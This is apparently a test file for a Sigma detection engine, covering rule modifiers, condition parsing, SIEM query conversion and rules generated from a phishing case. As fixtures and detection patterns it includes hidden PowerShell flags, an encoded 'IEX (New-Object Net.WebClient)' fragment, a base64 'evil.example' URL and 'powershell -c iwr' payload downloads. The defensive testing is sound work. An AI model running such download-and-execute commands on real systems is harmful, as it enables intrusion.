// The Sigma engine piece by piece: modifiers, wildcards, the condition language, filters, SIEM conversion and
// rules generated from a case. Values are built here from their definition (base64 of a string, an en dash
// for a dash), not copied from the engine's output.

import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { parse } from 'yaml';
import { hunt } from '../src/hunt/impact.ts';
import { emptyIndicators } from '../src/hunt/indicators.ts';
import { convertRule } from '../src/hunt/sigma/convert/index.ts';
import { RuleSet } from '../src/hunt/sigma/engine.ts';
import { sigmaRulesFromReport } from '../src/hunt/sigma/generate.ts';
import { BUNDLED_RULES, loadSigma, loadYamlText, type Loaded } from '../src/hunt/sigma/load.ts';
import { compileRule, type SigmaRule } from '../src/hunt/sigma/rule.ts';
import { Subject } from '../src/hunt/sigma/subject.ts';
import type { Report } from '../src/verdict/report.ts';
import * as gen from './generators/logs.ts';

const dir = mkdtempSync(join(tmpdir(), 'tacklebox-sigma-'));
after(() => rmSync(dir, { recursive: true, force: true }));

function rule(detection: string): SigmaRule {
  return compileRule(parse(`title: t\nid: r1\nlogsource: {category: process_creation, product: windows}\ndetection:\n${detection}`), 'inline');
}
const ev = (fields: Record<string, unknown>, raw?: string) => new Subject(fields, raw);

test('contains, startswith, endswith are case-insensitive; cased is not; all needs every value', () => {
  const r = rule(`  sel:\n    Image|endswith: '\\powershell.exe'\n    CommandLine|contains|all: [' -nop', ' -w hidden']\n  condition: sel`);
  assert.ok(r.matches(ev({ Image: 'C:\\WINDOWS\\PowerShell.EXE', CommandLine: 'powershell -NoP -W Hidden -nop -w hidden' })));
  assert.ok(!r.matches(ev({ Image: 'C:\\x\\powershell.exe', CommandLine: 'powershell -nop' })));
  const c = rule(`  sel:\n    CommandLine|contains|cased: 'IEX'\n  condition: sel`);
  assert.ok(c.matches(ev({ CommandLine: 'a IEX b' })));
  assert.ok(!c.matches(ev({ CommandLine: 'a iex b' })));
});

test('wildcards * and ? match; escaped \\* is a literal star; a plain backslash stays a backslash', () => {
  const r = rule(`  sel:\n    CommandLine: 'cmd /c ?ing * \\*'\n  condition: sel`);
  assert.ok(r.matches(ev({ CommandLine: 'cmd /c ping 127.0.0.1 *' })));
  assert.ok(!r.matches(ev({ CommandLine: 'cmd /c ping 127.0.0.1 x' })));
  const p = rule(`  sel:\n    Image: 'C:\\Windows\\System32\\cmd.exe'\n  condition: sel`);
  assert.ok(p.matches(ev({ Image: 'c:\\windows\\system32\\cmd.exe' })));
});

test('windash accepts every dash Windows tools accept', () => {
  const r = rule(`  sel:\n    CommandLine|windash|contains: ' -enc '\n  condition: sel`);
  for (const dash of ['-', '/', '\u2013', '\u2014', '\u2015']) assert.ok(r.matches(ev({ CommandLine: `powershell ${dash}enc AAAA` })), dash);
  assert.ok(!r.matches(ev({ CommandLine: 'powershell +enc AAAA' })));
});

test('base64 and base64offset find a string inside base64 at any alignment; wide encodes UTF-16LE first', () => {
  const r = rule(`  sel:\n    CommandLine|base64offset|contains: 'http://'\n  condition: sel`);
  for (const prefix of ['', 'a', 'ab']) {
    const encoded = Buffer.from(`${prefix}http://evil.example/x`).toString('base64');
    assert.ok(r.matches(ev({ CommandLine: `powershell -e ${encoded}` })), prefix);
  }
  const w = rule(`  sel:\n    CommandLine|wide|base64offset|contains: 'IEX'\n  condition: sel`);
  const ps = Buffer.from('$x=1; IEX (New-Object Net.WebClient)', 'utf16le').toString('base64');
  assert.ok(w.matches(ev({ CommandLine: `powershell -enc ${ps}` })));
  const exact = rule(`  sel:\n    Payload|base64: 'hello'\n  condition: sel`);
  assert.ok(exact.matches(ev({ Payload: Buffer.from('hello').toString('base64') })));
});

test('re (with Python-style (?i) and the i modifier), cidr, exists, gt/lt, null and fieldref', () => {
  assert.ok(rule(`  sel:\n    CommandLine|re: '(?i)\\s-U\\s*:'\n  condition: sel`).matches(ev({ CommandLine: 'curl -u : --ntlm' })));
  assert.ok(rule(`  sel:\n    CommandLine|re|i: 'WERFAULT'\n  condition: sel`).matches(ev({ CommandLine: 'werfault.exe' })));
  assert.ok(!rule(`  sel:\n    CommandLine|re: 'WERFAULT'\n  condition: sel`).matches(ev({ CommandLine: 'werfault.exe' })));
  const net = rule(`  sel:\n    DestinationIp|cidr: ['10.0.0.0/8', 'fd00::/8']\n  condition: sel`);
  assert.ok(net.matches(ev({ DestinationIp: '10.20.30.40' })));
  assert.ok(net.matches(ev({ DestinationIp: 'fd12::1' })));
  assert.ok(!net.matches(ev({ DestinationIp: '11.0.0.1' })));
  assert.ok(rule(`  sel:\n    ParentImage|exists: false\n  condition: sel`).matches(ev({ Image: 'x' })));
  assert.ok(rule(`  sel:\n    Size|gt: 1000\n    Size|lte: 2000\n  condition: sel`).matches(ev({ Size: '1500' })));
  assert.ok(!rule(`  sel:\n    Size|gt: 1000\n  condition: sel`).matches(ev({ Size: 'big' })));
  assert.ok(rule(`  sel:\n    User: null\n  condition: sel`).matches(ev({ Image: 'x' })));
  const same = rule(`  sel:\n    User|fieldref: ParentUser\n  condition: sel`);
  assert.ok(same.matches(ev({ User: 'CORP\\A', ParentUser: 'corp\\a' })));
  assert.ok(!same.matches(ev({ User: 'CORP\\A', ParentUser: 'corp\\b' })));
});

test('keywords search the whole event', () => {
  const r = rule(`  keywords:\n    - 'port-control force-authorized'\n  condition: keywords`);
  assert.ok(r.matches(ev({}, 'Nov 29 10:00 sw1 %PARSER: dot1x port-control force-authorized on Gi1/0/1')));
  assert.ok(!r.matches(ev({ msg: 'nothing to see' })));
});

test('condition language: precedence, not, parentheses, 1 of / all of with wildcards, them', () => {
  const det = (cond: string) => rule(`  sel_a:\n    A: 1\n  sel_b:\n    B: 1\n  filter:\n    C: 1\n  condition: ${cond}`);
  const e = (a: number, b: number, c: number) => ev({ A: a, B: b, C: c });
  assert.ok(det('sel_a or sel_b and not filter').matches(e(1, 1, 1))); // and binds tighter than or
  assert.ok(!det('(sel_a or sel_b) and not filter').matches(e(1, 1, 1)));
  assert.ok(det('1 of sel_*').matches(e(0, 1, 0)));
  assert.ok(!det('all of sel_*').matches(e(0, 1, 0)));
  assert.ok(det('all of them').matches(e(1, 1, 1)));
  assert.ok(!det('all of them').matches(e(1, 1, 0)));
  assert.ok(det('not 1 of sel_* or filter').matches(e(0, 0, 0)));
  assert.throws(() => det('sel_a and missing'), /no search named "missing"/);
  assert.throws(() => det('sel_a | count() > 5'), /aggregations/);
  assert.throws(() => det('sel_a and (sel_b'), /expected rp/);
});

test('a list of maps is an OR, a map is an AND, a list of values is an OR', () => {
  const r = rule(`  sel:\n    - Image|endswith: '\\a.exe'\n      User: x\n    - OriginalFileName: [b.exe, c.exe]\n  condition: sel`);
  assert.ok(r.matches(ev({ Image: 'C:\\a.exe', User: 'x' })));
  assert.ok(!r.matches(ev({ Image: 'C:\\a.exe', User: 'y' })));
  assert.ok(r.matches(ev({ OriginalFileName: 'C.EXE' })));
});

test('bad rules are reported with their file and skipped; the others still load', () => {
  const into: Loaded = { rules: [], filters: [], errors: [] };
  loadYamlText('title: ok\ndetection: {sel: {A: 1}, condition: sel}\n---\ntitle: bad\ndetection: {sel: {A|nosuchmod: 1}, condition: sel}\n---\ntitle: [unclosed\n', 'x.yml', into);
  assert.equal(into.rules.length, 1);
  assert.equal(into.errors.length, 2);
  assert.match(into.errors[0]!.message, /x\.yml: rule "bad": unsupported modifier \|nosuchmod/);
  loadYamlText('title: many logons\ncorrelation: {type: event_count, rules: [r1], group-by: [User], timespan: 1h, condition: {gte: 10}}\n', 'c.yml', into);
  assert.match(into.errors[2]!.message, /correlation rule, not supported/);
});

test('the bundled chain rules load, convert to SPL, KQL and ES|QL with mapped fields', async () => {
  const loaded = await loadSigma([BUNDLED_RULES]);
  assert.equal(loaded.errors.length, 0);
  assert.equal(loaded.rules.length, 12);
  const enc = loaded.rules.find((r) => r.id === 'ca2092a1-c273-4878-9b4b-0d60115bf5ea')!;
  const kql = convertRule(enc, 'kql');
  assert.match(kql.query, /^DeviceProcessEvents\n\| where /);
  assert.ok(kql.query.includes('FolderPath endswith @"\\powershell.exe"'));
  assert.ok(kql.query.includes('ProcessCommandLine contains @" JAB"'));
  assert.ok(kql.query.includes('not('));
  const spl = convertRule(enc, 'spl');
  assert.ok(spl.query.startsWith('source="XmlWinEventLog:Microsoft-Windows-Sysmon/Operational" EventCode=1\n| where '));
  assert.ok(spl.query.includes('like(lower(Image), "%\\\\powershell.exe")'));
  const esql = convertRule(enc, 'esql');
  assert.ok(esql.query.includes('TO_LOWER(process.executable) LIKE """*\\\\powershell.exe"""'));
  assert.ok(esql.query.includes('TO_LOWER(process.command_line) LIKE """* jab*"""'));
  for (const r of loaded.rules) for (const b of ['spl', 'kql', 'esql'] as const) assert.ok(convertRule(r, b).query.length > 20);
  // Every open parenthesis closes: the condition tree is rendered whole.
  for (const q of [kql.query, spl.query, esql.query]) {
    const bare = q.replace(/"""[\s\S]*?"""|@"(?:[^"]|"")*"|"(?:[^"\\]|\\.)*"/g, '');
    assert.equal((bare.match(/\(/g) ?? []).length, (bare.match(/\)/g) ?? []).length, q);
  }
});

test('rules generated from a case load, find the case in proxy and endpoint logs, and their filters spare trusted devices', async () => {
  const c = gen.CAMPAIGN;
  const report = {
    input: { name: 'r.eml', sha256: 'ab'.repeat(32) },
    summary: 'email → link → ZIP → JScript',
    attack: ['T1566.002'],
    email: { messageId: c.messageId, from: c.sender, subject: c.subject },
    iocs: [{ type: 'url', value: c.payloadUrl, artifact: 'a2' }],
    artifacts: [],
  } as unknown as Report;
  const out = sigmaRulesFromReport(report, { trustedHosts: ['WS-ALICE'], date: '2026-11-29' });
  const into: Loaded = { rules: [], filters: [], errors: [] };
  loadYamlText(out.rules, 'generated.yml', into);
  loadYamlText(out.filters, 'filters.yml', into);
  assert.deepEqual(into.errors, []);
  assert.ok(into.rules.some((r) => r.logsource.category === 'proxy'));
  assert.equal(sigmaRulesFromReport(report, { date: '2026-11-29' }).rules, sigmaRulesFromReport(report, { date: '2026-11-29' }).rules);

  const logs = join(dir, 'generated');
  const { mkdirSync } = await import('node:fs');
  mkdirSync(logs);
  writeFileSync(join(logs, 'access.log'), gen.squidAccessLog(c));
  const procs = [{ ...gen.CHAIN_PROCESSES[1]!, commandLine: `powershell -c iwr ${c.payloadUrl}` }, { ...gen.CHAIN_PROCESSES[1]!, host: 'WS-BOB', commandLine: `powershell -c iwr ${c.payloadUrl}` }];
  writeFileSync(join(logs, 'sysmon.json'), gen.nxlogJson(procs));
  const r = await hunt({ indicators: emptyIndicators(), rules: new RuleSet(into.rules, into.filters), logs: [logs] });
  const proxyHits = r.detections.filter((d) => d.source.includes('access.log'));
  assert.equal(proxyHits.length, Object.keys(c.clicked).length * 2); // each clicker: the page and the payload, same domain
  assert.deepEqual(r.detections.filter((d) => d.source.includes('sysmon')).map((d) => d.host), ['WS-BOB']);
  assert.deepEqual(r.suppressed.map((s) => s.host), ['WS-ALICE']);
});

test('the example filters file loads and names only bundled rules; a signed-script filter spares that share only', async () => {
  const { fileURLToPath } = await import('node:url');
  const example = fileURLToPath(new URL('../rules/sigma-filters/trusted-devices.example.yml', import.meta.url));
  const filters = await loadSigma([example]);
  assert.deepEqual(filters.errors, []);
  const bundled = await loadSigma([BUNDLED_RULES]);
  const ids = new Set(bundled.rules.map((r) => r.id));
  for (const f of filters.filters) for (const id of f.rules) assert.ok(ids.has(id), id);
  const set = new RuleSet(bundled.rules, filters.filters);
  const event = (parentCommandLine: string) => ({
    shape: 'nxlog-json', file: 'x', line: 1, logsource: { product: 'windows', service: 'sysmon', categories: ['process_creation'] },
    fields: { Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', ParentImage: 'C:\\Windows\\System32\\wscript.exe', ParentCommandLine: parentCommandLine, CommandLine: 'powershell.exe -File x.ps1', Computer: 'WS-1' },
  });
  const signed = set.match(event('wscript.exe \\\\it-share.corp.example\\signed-scripts\\inventory.vbs')).find((m) => m.rule.id === '95eadcb2-92e4-4ed1-9031-92547773a6db')!;
  assert.equal(signed.suppressedBy?.title, 'Signed admin scripts in the IT share');
  const lure = set.match(event('wscript.exe C:\\Users\\alice\\Downloads\\Invoice_4411.js')).find((m) => m.rule.id === '95eadcb2-92e4-4ed1-9031-92547773a6db')!;
  assert.equal(lure.suppressedBy, undefined);
});
